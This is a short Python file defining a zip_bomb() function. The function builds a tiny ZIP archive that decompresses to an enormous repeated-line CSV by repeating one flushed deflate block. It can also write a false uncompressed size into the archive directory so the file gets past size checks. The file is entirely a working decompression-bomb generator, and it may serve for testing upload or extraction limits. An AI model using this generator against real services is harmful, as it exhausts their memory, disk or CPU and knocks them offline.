"""A small ZIP that expands to a huge CSV, made without ever holding the CSV."""

from __future__ import annotations

import struct
import zlib

MEGABYTE = 2**20
LOCAL = struct.Struct("<4s5H3L2H")
CENTRAL = struct.Struct("<4s6H3L5H2L")
END = struct.Struct("<4s4H2LH")
NEEDED, DEFLATED, DAY_ONE = 20, 8, 33
LARGEST = 0xFFFFFFFF


def zip_bomb(name: str, start: bytes, line: bytes, megabytes: int, declared: int | None) -> bytes:
    """Return a ZIP with one member: `start`, then one line again and again.

    The compressor's memory is flushed around a megabyte of lines, so that its output can be
    repeated as it is.

    Args:
        name: Name of the member.
        start: First bytes of the member.
        line: The line that is repeated.
        megabytes: How many megabytes of lines.
        declared: Size to put into the directory; None puts the right one.
    """
    block = line * (MEGABYTE // len(line) + 1)
    packer = zlib.compressobj(9, zlib.DEFLATED, -zlib.MAX_WBITS)
    head = packer.compress(start) + packer.flush(zlib.Z_FULL_FLUSH)
    middle = packer.compress(block) + packer.flush(zlib.Z_FULL_FLUSH)
    packed = head + middle * megabytes + packer.flush()
    checksum = zlib.crc32(start)
    for _ in range(megabytes):
        checksum = zlib.crc32(block, checksum)
    size = min(len(start) + len(block) * megabytes, LARGEST) if declared is None else declared
    path = name.encode()
    sizes = (checksum, len(packed), size, len(path))
    local = LOCAL.pack(b"PK\x03\x04", NEEDED, 0, DEFLATED, 0, DAY_ONE, *sizes, 0) + path
    central = CENTRAL.pack(
        b"PK\x01\x02", NEEDED, NEEDED, 0, DEFLATED, 0, DAY_ONE, *sizes, 0, 0, 0, 0, 0, 0
    )
    central += path
    end = END.pack(b"PK\x05\x06", 0, 0, 1, 1, len(central), len(local) + len(packed), 0)
    return local + packed + central + end
